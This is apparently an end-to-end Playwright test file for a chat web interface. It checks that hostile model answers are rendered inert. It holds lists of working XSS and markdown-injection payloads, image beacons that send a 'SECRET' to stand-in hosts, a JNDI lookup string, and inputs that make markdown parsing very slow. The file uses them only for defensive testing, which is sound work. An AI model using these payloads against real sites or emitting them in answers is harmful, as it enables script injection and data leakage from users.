"""Nothing that a person or a model writes runs, loads or freezes anything."""

import json
import os
from pathlib import Path

import pytest
from playwright.async_api import Locator, expect

from tests.e2e.page_driver import ChatPage
from tests.e2e.page_server import FakeBot, Script

pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.slow]

HTML = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned&#61;1</script>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<object data=javascript:window.pwned=1>",
    "<a href='java&#x09;script:window.pwned=1'>x</a>",
    "<form action=javascript:window.pwned=1><button>x",
    "<base href=//203.0.113.1/>",
    "<style>@import '//203.0.113.1/x'</style>",
    "<div style='background:url(//203.0.113.1/x)'>",
    "<input autofocus onfocus=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>",
    "<template><img src=x onerror=window.pwned=1></template>",
    "<select><template shadowrootmode=open><img src=x onerror=window.pwned=1>",
    "<x onclick=window.pwned=1 id=document><a name=getElementById>",
    "<meta http-equiv=refresh content='0;url=//203.0.113.1/'>",
    "<link rel=stylesheet href=//203.0.113.1/x.css>",
    "</title></textarea></style><script>window.pwned=1</script>",
]
MARKDOWN = [
    "[x](javascript:window.pwned=1)",
    "[x](java\tscript:window.pwned=1)",
    "[x](&#106;avascript:window.pwned=1)",
    "[x][r]\n\n[r]: javascript:window.pwned=1",
    "<javascript:window.pwned=1>",
    "![x](javascript:window.pwned=1)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](data:text/html,<script>window.pwned=1</script>)",
    '[x]("onmouseover=window.pwned=1 )',
    "```\n```\n</code></pre><script>window.pwned=1</script>",
    '```"><img/src=x/onerror=window.pwned=1>\ncode\n```',
    "|a|\n|-|\n|<img src=x onerror=window.pwned=1>|",
    "$$\\href{javascript:window.pwned=1}{x}$$",
]
BEACONS = [
    "![a](https://e.example/?p=SECRET)",
    "![a](//203.0.113.1/leak?d=SECRET)",
    "![a][1]\n\n[1]: https://e.example/?p=SECRET",
    "<img src=https://e.example/?p=SECRET>",
    "[![a](https://e.example/a.png)](https://e.example/b)",
    "<video poster=https://e.example/?p=SECRET><source src=https://e.example/v></video>",
]
ODD = [
    "", " ", "\ufeff", "\u3164", "\x00", "\r\ndata: {\"x\":1}\r\n\r\n", "[DONE]",
    "\u2028\u2029", "\u202egnp.exe",
    "e\u0301" * 3000, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 700, "Z\u0338\u0321\u0354\u0348" * 500,
    "a" * 5000, "\ufdfa" * 1000, "{{7*7}}", "${jndi:ldap://x}", "\ud83d\ude00" * 2048,
]  # fmt: skip
SLOW = [
    "*a _" * 25_000, "a**b" * 25_000, "[" * 100_000, "![" * 50_000, ">" * 100_000, "1. " * 33_000,
    "`a" * 50_000, "_a_" * 5000, "](" * 50_000, "\n".join(" " * n + "- a" for n in range(440)),
    "|a" * 10_000 + "\n" + "|-" * 10_000 + "\n" + "a\n" * 20_000,
]  # fmt: skip


def samples() -> list[str]:
    """The samples above, and those of the file HOSTILE_TEXT (one JSON object with `text` a line)."""
    own = [*HTML, *MARKDOWN, *BEACONS, *ODD]
    if name := os.environ.get("HOSTILE_TEXT"):
        lines = Path(name).read_text(encoding="utf-8").splitlines()
        own += [text for line in lines if "\ud800" not in (text := json.loads(line)["text"])]
    return own


async def assert_inert(chat: ChatPage) -> None:
    """No script ran, and nothing on the page could run one or load anything."""
    found = await chat.page.evaluate("""() => ({
        pwned: "pwned" in window,
        tags: [...document.querySelectorAll("#log *, #live *")].map((e) => e.localName).filter((name) =>
            /^(script|style|link|meta|base|iframe|object|embed|form|input|img|video|audio|template|math|select|details)$/
                .test(name)),
        handlers: [...document.querySelectorAll("#log *, #live *")].flatMap((e) => [...e.attributes])
            .map((a) => a.name).filter((name) => name.startsWith("on") || name === "style" || name === "id"),
        links: [...document.querySelectorAll("#log a, #live a")].filter((a) =>
            !/^(https?:|mailto:)/i.test(a.getAttribute("href")) || a.rel !== "noopener noreferrer" ||
            a.target !== "_blank").length,
        location: location.pathname,
    })""")
    assert found == {"pwned": False, "tags": [], "handlers": [], "links": 0, "location": "/"}
    assert chat.foreign_requests() == []
    assert chat.dialogs == []


@pytest.mark.pain("60")
async def test_hostile_texts_in_a_history_are_inert(chat: ChatPage, bot: FakeBot) -> None:
    texts = samples()
    for start in range(0, len(texts), 20):
        session = bot.add_session(
            texts[start] or "empty", *((text, text) for text in texts[start : start + 20])
        )
        await chat.open()
        await chat.open(f"/#/c/{session}")
        await expect(chat.answers.first).to_be_visible()
        await assert_inert(chat)


@pytest.mark.pain("60")
async def test_hostile_answers_are_inert_while_they_stream(chat: ChatPage, bot: FakeBot) -> None:
    await chat.open()
    for text in [*HTML, *MARKDOWN, *BEACONS]:
        half = len(text) // 2
        bot.scripts.append(Script([text[:half], text[half:]]))
        await chat.ask(text)
    await expect(chat.finished).to_have_count(len(HTML) + len(MARKDOWN) + len(BEACONS))
    await assert_inert(chat)
    assert bot.sent() == [*HTML, *MARKDOWN, *BEACONS]


async def test_html_in_an_answer_is_shown_as_it_was_written(chat: ChatPage, bot: FakeBot) -> None:
    bot.scripts.append(Script(["Use <b>bold</b> here.\n\n<div class=x>and this</div>"]))
    await chat.open()
    await chat.ask("hello")
    await expect(chat.body()).to_contain_text("Use <b>bold</b> here.")
    await expect(chat.body()).to_contain_text("<div class=x>and this</div>")


@pytest.mark.pain("P140")
async def test_a_picture_is_a_link_that_names_its_host(chat: ChatPage, bot: FakeBot) -> None:
    bot.scripts.append(Script(["![a cat](https://e.example/?p=SECRET)"]))
    await chat.open()
    await chat.ask("hello")
    link = chat.body().get_by_role("link")
    await expect(link).to_have_text("a cat (e.example)")
    await expect(link).to_have_attribute("href", "https://e.example/?p=SECRET")


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[https://bank.example](https://203.0.113.1/)", "https://bank.example (203.0.113.1)"),
        ("[Log in](https://example.com@203.0.113.1/)", "Log in (203.0.113.1)"),
        ("[bank.example](https://evil.example/)", "bank.example (evil.example)"),
        ("[the page](https://docs.example/)", "the page"),
        ("https://docs.example/a", "https://docs.example/a"),
    ],
)
async def test_a_link_can_not_pretend_to_lead_elsewhere(
    chat: ChatPage, bot: FakeBot, markdown: str, shown: str
) -> None:
    bot.scripts.append(Script([markdown]))
    await chat.open()
    await chat.ask("hello")
    await expect(chat.body().get_by_role("link")).to_have_text(shown)


async def assert_alive(chat: ChatPage, answer: Locator) -> None:
    """The page takes input while the answer stands there."""
    await expect(answer).to_be_visible()
    await chat.box.fill("still here", timeout=3000)
    await expect(chat.box).to_have_value("still here", timeout=3000)


@pytest.mark.pain("60")
@pytest.mark.parametrize("text", SLOW, ids=range(len(SLOW)))
async def test_markdown_that_is_too_much_work_is_shown_as_text(
    chat: ChatPage, bot: FakeBot, text: str
) -> None:
    bot.scripts.append(Script([text[:1000], text[1000:]]))
    await chat.open()
    await chat.send("hello")
    await expect(chat.answers).to_have_count(1)
    await assert_alive(chat, chat.answers.last)
    await expect(chat.finished).to_have_count(1, timeout=12_000)
    await assert_alive(chat, chat.finished.last)


@pytest.mark.pain("60")
async def test_ten_megabytes_are_shown_in_slices(chat: ChatPage, bot: FakeBot) -> None:
    piece = "[" * 500_000
    bot.scripts.append(Script([piece] * 20))
    await chat.open()
    await chat.send("hello")
    await expect(chat.finished).to_have_count(1, timeout=12_000)
    await assert_alive(chat, chat.finished.last)
    await chat.page.get_by_role("button", name="Show more (9,900,000 characters left)").click()
    await expect(chat.page.locator(".slice")).to_have_count(3)  # the question's, and two of the answer


async def test_the_policy_of_the_page_forbids_what_could_run(chat: ChatPage, bot: FakeBot) -> None:
    await chat.open()
    blocked = await chat.page.evaluate("""() => {
        const outcomes = [];
        for (const sink of [() => { document.body.innerHTML = "<b>x</b>"; }, 
                                () => { document.createElement("script").text = "window.pwned = 1"; },
                            () => new Worker("/static/app.js")]) {
            try { sink(); outcomes.push("ran"); } catch (error) { outcomes.push(error.name); }
        }
        return outcomes;
    }""")
    assert blocked == ["TypeError", "TypeError", "TypeError"]
    assert chat.errors, "the browser reports each of them"
    chat.errors.clear()
